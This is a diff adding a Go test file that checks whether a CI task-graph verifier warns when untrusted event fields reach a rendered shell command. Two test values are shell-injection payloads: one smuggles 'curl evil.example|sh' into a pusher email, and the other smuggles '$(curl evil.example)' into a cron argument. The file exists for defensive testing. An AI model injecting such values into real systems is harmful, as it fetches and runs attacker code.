@@ -1,0 +1,58 @@
+package verify_test
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"cotverify/internal/testgraph"
+	"cotverify/pkg/verify"
+)
+
+// rewrite replaces a text wherever it stands in a task's definition.
+func rewrite(name, from, to string) func(*testgraph.Graph) {
+	return func(g *testgraph.Graph) {
+		g.Task(name).Change(func(d map[string]any) {
+			data, err := json.Marshal(d)
+			if err != nil {
+				panic(err)
+			}
+			changed := strings.ReplaceAll(string(data), from, to)
+			if changed == string(data) {
+				panic("there is no " + from)
+			}
+			clear(d)
+			if err := json.Unmarshal([]byte(changed), &d); err != nil {
+				panic(err)
+			}
+		})
+		g.Seal()
+	}
+}
+
+// TestInjected shows that a definition which brings words of a shell equals what
+// the template renders to, and is warned of where they reach the command.
+func TestInjected(t *testing.T) {
+	for _, tt := range []struct {
+		name     string
+		graph    *testgraph.Graph
+		from, to string
+		want     string // "" for no warning
+	}{
+		{"an owner", testgraph.GitHubPush(), "octo@example.com", "x'; curl evil.example|sh; '", "warn untrusted-input signing:parent /payload/command/5: the command is rendered from event.pusher.email"},
+		{"another owner", testgraph.GitHubPush(), "octo@example.com", "evil@example.com", ""},
+		{"words of cron", testgraph.HgCron(), "--target-tasks-method=nightly_desktop", "$(curl evil.example)", "warn untrusted-input signing:parent /payload/command/"},
+		{"other words of cron", testgraph.HgCron(), "--target-tasks-method=nightly_desktop", "--target-tasks-method=other", ""},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			rewrite("decision", tt.from, tt.to)(tt.graph)
+			report, err := verify.Run(t.Context(), optionsOf(t, tt.graph, tt.graph.Source()))
+			if err != nil || report.Verdict != verify.Verified {
+				t.Fatalf("%s, %v\n%s", report.Verdict, err, messages(report))
+			}
+			if tt.want == "" && report.Counts.Warn > 0 || !strings.Contains(messages(report), tt.want) {
+				t.Errorf("expected %q:\n%s", tt.want, messages(report))
+			}
+		})
+	}
+}
